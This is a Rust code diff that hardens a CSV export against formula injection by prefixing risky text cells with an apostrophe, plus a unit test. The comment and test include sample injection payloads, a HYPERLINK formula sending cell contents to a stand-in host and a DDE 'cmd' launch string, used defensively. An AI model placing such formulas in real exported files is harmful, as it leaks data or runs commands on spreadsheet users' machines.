@@ -211,21 +211,37 @@ pub fn plain(markdown: &str) -> String {
 
 /// The table as CSV (RFC 4180, UTF-8 with a byte-order mark so that Excel
 /// reads accents right): dates `YYYY-MM-DD`, numbers with a point.
+///
+/// A spreadsheet runs a CSV cell that begins with `=`, `+`, `-` or `@` (or
+/// a tab or carriage return before one) as a formula: an owner written
+/// `=HYPERLINK("https://…"&A1, "Click")` would send the tracker's cells to
+/// anyone. So every text cell, headers included, that begins with one of
+/// those six characters gets a leading `'`, as OWASP's guidance on CSV
+/// injection has it, and a spreadsheet shows it as the text it is. The
+/// numeric columns are those whose cells are typed numbers, dates or
+/// percentages ([`Cell::Number`], [`Cell::Date`], [`Cell::Percent`]: a
+/// metric's value, a date, progress): they are written as numbers, so `-3.5`
+/// stays a number. The workbooks need none of this: they hold text as text.
 pub fn to_csv(sheet: &Sheet) -> Vec<u8> {
     let mut w =
         csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
     // Writing into memory cannot fail.
-    let _ = w.write_record(&sheet.headers);
+    let _ = w.write_record(sheet.headers.iter().map(|h| inert(h)));
     for row in &sheet.rows {
         let _ = w.write_record(row.iter().map(|c| match c {
             Cell::Empty => String::new(),
-            Cell::Text(t) => t.clone(),
+            Cell::Text(t) => inert(t),
             Cell::Date(d) => d.to_string(),
             Cell::Number(n) => crate::core::words::show_number(*n),
             Cell::Percent(p) => p.to_string(),
         }));
     }
     w.into_inner().unwrap_or_default()
+}
+
+/// A text cell as a spreadsheet reads it as text, never as a formula.
+fn inert(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
 }
 
 /// The widest a column grows, in characters.
@@ -322,6 +338,44 @@ mod tests {
         };
         let csv = String::from_utf8(to_csv(&sheet)).unwrap();
         assert_eq!(csv, "\u{feff}Groupe,Risque\r\nSanté,\"a, \"\"b\"\"\nc\"\r\n");
+    }
+
+    #[test]
+    fn a_text_cell_that_a_spreadsheet_would_run_is_written_as_text_and_numbers_stay_numbers() {
+        let date = Date::new(2021, 5, 26).unwrap();
+        let texts = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1+1",
+            "\r=1+1",
+            "-3.5",
+        ];
+        let sheet = Sheet {
+            name: "metrics",
+            title: "Metrics".into(),
+            headers: vec!["=Group".into(), "Value".into(), "Due".into(), "Progress".into()],
+            rows: texts
+                .iter()
+                .map(|t| {
+                    vec![Cell::Text(t.to_string()), Cell::Number(-3.5), Cell::Date(date), Cell::Percent(5)]
+                })
+                .collect(),
+        };
+        let csv = to_csv(&sheet);
+        let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(&csv[3..]);
+        let rows: Vec<Vec<String>> =
+            read.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
+        assert_eq!(rows[0], ["'=Group", "Value", "Due", "Progress"]);
+        for (row, text) in rows[1..].iter().zip(texts) {
+            assert_eq!(row[0], format!("'{text}"), "{text:?}");
+            assert_eq!(row[1..], ["-3.5", "2021-05-26", "5"], "numeric columns stay numbers");
+        }
+        // Other texts are as they were, a quote or a space first included.
+        for t in ["Santé", "'quoted", " =1", "1-2", "a=b", "Q1 — 2021"] {
+            assert_eq!(inert(t), t);
+        }
     }
 
     #[test]
